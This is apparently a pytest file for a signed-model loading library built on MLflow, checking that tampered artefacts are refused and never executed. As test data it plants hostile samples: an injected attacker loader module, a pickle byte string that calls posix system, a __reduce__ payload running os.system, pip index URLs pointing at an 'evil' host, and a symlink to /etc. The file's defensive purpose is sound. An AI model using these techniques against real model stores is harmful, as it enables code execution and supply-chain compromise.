"""Whoever can write to the artefact store changes a signed model; none of it runs or is served."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import mlflow
import pytest

import safeload
import safeload.serving.mlflow as signed
from safeload.serving.mlflow import staging
from tests.with_mlflow.conftest import ROWS, Registry

ADDRESS = "models:/wine/2"
CODE = "from pathlib import Path\nPath({canary!r}).touch()\n"


def loads(registry: Registry) -> list[Callable[[], object]]:
    """Each way to a model that was verified."""
    return [
        lambda: signed.load_model(ADDRESS, trust=registry.trust),
        lambda: signed.load_model(ADDRESS, trust=registry.trust, code=True),
        lambda: signed.load_pyfunc(ADDRESS, trust=registry.trust),
        lambda: signed.load_pyfunc(ADDRESS, trust=registry.trust, code=True),
        lambda: mlflow.pyfunc.load_model(f"safeload:{ADDRESS}"),
        lambda: mlflow.pyfunc.load_model(f"safeload:{ADDRESS}/MLmodel"),
    ]


def bring_code(files: Path, canary: Path) -> None:
    """``MLmodel`` names a module of the attacker's, which lies in ``code``."""
    (files / "code").mkdir()
    (files / "code" / "evil_loader.py").write_text(CODE.format(canary=str(canary)))
    about = (files / "MLmodel").read_text()
    about = about.replace("loader_module: safeload.serving.mlflow", "loader_module: evil_loader")
    (files / "MLmodel").write_text(
        about.replace("  python_function:", "  python_function:\n    code: code")
    )


def shadow(files: Path, canary: Path) -> None:
    """A module of ours is in ``code``, with ``MLmodel`` as it was."""
    (files / "code" / "safeload").mkdir(parents=True)
    (files / "code" / "safeload" / "__init__.py").write_text(CODE.format(canary=str(canary)))


def compiled(files: Path, canary: Path) -> None:
    """Byte code of a module lies where Python looks for it."""
    (files / "__pycache__").mkdir()
    (files / "__pycache__" / "yaml.cpython-311.pyc").write_bytes(b"")


def code_model(files: Path, canary: Path) -> None:
    """The model is a script (``model_code_path``), for MLflow's own loader."""
    (files / "script.py").write_text(CODE.format(canary=str(canary)))
    (files / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
        "    model_code_path: script.py\n    python_model: script.py\n"
    )


def another_model(files: Path, canary: Path) -> None:
    (files / "model.joblib").write_bytes(b"\x80\x04cposix\nsystem\n\x8c\x04true\x85R.")


def environment(files: Path, canary: Path) -> None:
    (files / "conda.yaml").write_text("dependencies: [pip, {pip: ['--index-url http://evil x']}]")


def requirements(files: Path, canary: Path) -> None:
    (files / "requirements.txt").write_text("--index-url http://evil\nx\n")


def example(files: Path, canary: Path) -> None:
    (files / "input_example.json").write_text("[1]")


def meta(files: Path, canary: Path) -> None:
    """What MLflow adds is a folder with code in it."""
    (files / "registered_model_meta").unlink(missing_ok=True)
    (files / "registered_model_meta").mkdir()
    (files / "registered_model_meta" / "evil_loader.py").write_text(CODE.format(canary=str(canary)))
    about = (files / "MLmodel").read_text()
    about = about.replace("loader_module: safeload.serving.mlflow", "loader_module: evil_loader")
    where = "  python_function:\n    code: registered_model_meta"
    (files / "MLmodel").write_text(about.replace("  python_function:", where))


def no_bundle(files: Path, canary: Path) -> None:
    (files / "model.sig").unlink()


def no_example(files: Path, canary: Path) -> None:
    (files / "input_example.json").unlink()


def no_description(files: Path, canary: Path) -> None:
    (files / "MLmodel").unlink()


ATTACKS: dict[Callable[[Path, Path], None], set[str]] = {
    bring_code: {"file-unlisted", "digest-mismatch"},
    shadow: {"file-unlisted"},
    compiled: {"file-unlisted"},
    code_model: {"file-unlisted"},
    another_model: {"digest-mismatch"},
    environment: {"digest-mismatch"},
    requirements: {"digest-mismatch"},
    example: {"digest-mismatch"},
    meta: {"unreadable"},
    no_bundle: {"bundle-missing"},
    no_example: {"file-missing"},
    no_description: {"no-mlmodel"},
}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_what_was_changed_in_the_store_is_refused_and_runs_nothing(
    registry: Registry, tmp_path: Path, attack: Callable[[Path, Path], None]
) -> None:
    canary = tmp_path / "canary"
    attack(registry.releases[1].files, canary)
    for load in loads(registry):
        with pytest.raises(safeload.SafeloadError) as refusal:
            load()
        assert refusal.value.code in ATTACKS[attack]
    assert not canary.exists()


def test_nothing_is_read_from_what_mlflow_adds(registry: Registry, tmp_path: Path) -> None:
    files = registry.releases[1].files
    before = (files / "MLmodel").read_bytes()
    meta(files, tmp_path / "canary")
    with pytest.raises(safeload.TrustError) as refusal:
        signed.load_pyfunc(files, trust=registry.trust)
    assert refusal.value.code == "digest-mismatch"
    (files / "MLmodel").write_bytes(before)
    staged, _ = staging.stage(files, staging.Terms(trust=registry.trust), tmp_path)
    assert not (staged / "registered_model_meta").exists()


def test_a_link_in_a_folder_is_refused(registry: Registry, tmp_path: Path) -> None:
    files = registry.releases[1].files
    (files / "more").symlink_to("/etc")
    for load in (signed.load_model, signed.load_pyfunc):
        with pytest.raises(safeload.ArtefactError) as refusal:
            load(files, trust=registry.trust)
        assert refusal.value.code == "not-regular"


def test_mlflow_alone_runs_what_was_changed(registry: Registry, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    bring_code(registry.releases[1].files, canary)
    with pytest.raises(AttributeError):
        mlflow.pyfunc.load_model(ADDRESS)
    assert canary.exists()


def test_mlflow_alone_verifies_a_model_whose_description_was_left_alone(registry: Registry) -> None:
    assert mlflow.pyfunc.load_model(ADDRESS).predict(ROWS) is not None
    another_model(registry.releases[1].files, Path())
    with pytest.raises(safeload.TrustError):
        mlflow.pyfunc.load_model(ADDRESS)


def test_an_older_release_in_the_place_of_a_newer_one_is_refused(registry: Registry) -> None:
    old, new = registry.releases
    shutil.rmtree(new.files)
    shutil.copytree(old.files, new.files)
    for load in loads(registry):
        with pytest.raises(safeload.TrustError) as refusal:
            load()
        assert refusal.value.code == "registry-mismatch"
        assert old.run in str(refusal.value)
    with pytest.raises(safeload.TrustError) as refusal:
        signed.load_model(f"runs:/{new.run}/model", trust=registry.trust)
    assert refusal.value.code == "registry-mismatch"


def test_whom_to_believe_is_not_taken_from_the_model(registry: Registry, tmp_path: Path) -> None:
    mallory = safeload.SigningKey.generate()
    mallory.write(tmp_path / "mallory.key", passphrase=None)
    files = registry.releases[1].files
    shutil.rmtree(files)
    signed.save_model(
        registry.releases[0].model, files, name="wine", version="9", key=tmp_path / "mallory.key"
    )
    safeload.TrustFile.add(files / "trust.toml", name="me", key=mallory.public, models=["wine"])
    about = (files / "MLmodel").read_text()
    where = f"  python_function:\n    config: {{trust: {files / 'trust.toml'}}}"
    (files / "MLmodel").write_text(about.replace("  python_function:", where))
    for load in loads(registry):
        with pytest.raises(safeload.TrustError) as refusal:
            load()
        assert refusal.value.code == "signer-unknown"
    with pytest.raises(safeload.UsageError) as refused:
        mlflow.pyfunc.load_model(ADDRESS)
    assert refused.value.code == "model-config"


def test_a_signed_folder_of_another_flavor_is_not_given_to_that_flavor(
    registry: Registry, tmp_path: Path
) -> None:
    mlflow.sklearn.save_model(
        registry.releases[0].model, tmp_path / "m", serialization_format="pickle"
    )
    safeload.sign(tmp_path / "m", key=registry.key, name="wine", version="3")
    with pytest.raises(safeload.TrustError) as refusal:
        signed.load_pyfunc(tmp_path / "m", trust=registry.trust)
    assert refusal.value.code == "loader-module"
    with pytest.raises(safeload.TrustError) as refusal:
        mlflow.pyfunc.load_model(f"safeload:{tmp_path / 'm'}")
    assert refusal.value.code == "loader-module"
    model = signed.load_model(tmp_path / "m", trust=registry.trust)
    assert model.predict(ROWS).tolist() == registry.releases[0].model.predict(ROWS).tolist()


def test_what_is_swapped_after_it_was_verified_is_not_what_is_loaded(
    registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "m"
    signed.save_model(
        registry.releases[0].model, folder, name="wine", version="3", key=registry.key
    )
    before = (folder / "MLmodel").read_bytes()
    canary = tmp_path / "canary"

    def then_swapped(*given: Any, **more: Any) -> safeload.Verified:
        verified = safeload.verify(*given, **more)
        bring_code(folder, canary)
        return verified

    monkeypatch.setattr(staging, "verify", then_swapped)
    with pytest.raises(safeload.TrustError) as refusal:
        signed.load_pyfunc(folder, trust=registry.trust)
    assert refusal.value.code == "digest-mismatch"
    monkeypatch.undo()
    shutil.rmtree(folder / "code")
    (folder / "MLmodel").write_bytes(before)

    bundles = staging._copy_bundles

    def then_changed(*given: Any) -> None:
        bundles(*given)
        bring_code(folder, canary)

    monkeypatch.setattr(staging, "_copy_bundles", then_changed)
    served = signed.load_pyfunc(folder, trust=registry.trust)
    assert served.predict(ROWS).tolist() == registry.releases[0].model.predict(ROWS).tolist()
    assert not canary.exists()


def test_nothing_of_a_load_stays_behind(registry: Registry, tmp_path: Path) -> None:
    signed.load_model(ADDRESS, trust=registry.trust)
    signed.load_pyfunc(ADDRESS, trust=registry.trust).predict(ROWS)
    requirements(registry.releases[1].files, Path())
    with pytest.raises(safeload.TrustError):
        signed.load_model(ADDRESS, trust=registry.trust)
    assert not any((tmp_path / "temporary").iterdir())


def test_what_is_refused_is_not_logged(registry: Registry, tmp_path: Path) -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return os.system, (f"touch {tmp_path / 'canary'}",)

    with pytest.raises(safeload.RefusedError):
        signed.save_model(Payload(), tmp_path / "m", name="wine", version="3", key=registry.key)
    assert not (tmp_path / "m").exists()
    assert not (tmp_path / "canary").exists()
